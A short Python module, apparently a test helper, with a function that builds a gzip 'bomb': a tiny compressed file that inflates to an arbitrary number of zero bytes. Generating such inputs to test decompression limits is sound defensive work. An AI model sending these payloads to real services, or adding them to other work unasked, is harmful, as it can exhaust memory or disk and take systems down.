"""Gzip files that mean harm."""

import zlib


def bomb(size: int) -> bytes:
    """Return a small gzip file that inflates to `size` zero bytes, in whole mebibytes."""
    packer = zlib.compressobj(9, wbits=31)
    pieces = [packer.compress(bytes(1 << 20)) for _ in range(size >> 20)]
    return b"".join([*pieces, packer.flush()])
